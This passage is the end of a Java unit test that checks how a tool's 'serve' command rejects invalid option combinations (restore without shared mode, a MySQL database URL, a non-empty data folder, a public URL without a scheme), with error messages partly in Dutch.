        Outcome without = exec("serve", "--restore", "x.zip");
        assertEquals(2, without.code());
        assertTrue(without.err().contains("horen bij --shared"), without.err());
        Outcome mysql = exec("serve", "--shared", "--db", "jdbc:mysql://x");
        assertEquals(2, mysql.code());
        assertTrue(
                mysql.err().contains("JDBC-adres van PostgreSQL")
                        && !mysql.err().contains("opent niet"),
                mysql.err());
        Outcome noData = exec("serve", "--shared", "--restore", "x.zip");
        assertTrue(noData.code() == 2 && noData.err().contains("--data"), noData.err());
        Path users = Files.createDirectories(dir.resolve("mine"));
        Files.writeString(users.resolve("notes.txt"), "mine");
        Outcome used = exec("serve", "--shared", "--data", users.toString(), "--lang", "en");
        assertTrue(used.code() == 2 && used.err().contains("already holds other files"), used.err());
        assertEquals("mine", Files.readString(users.resolve("notes.txt")), "the user's file is untouched");
        Outcome url = exec("serve", "--shared", "--public-url", "ppsim.example.org/app");
        assertTrue(url.code() == 2 && url.err().contains("--public-url"), url.err());
    }
}
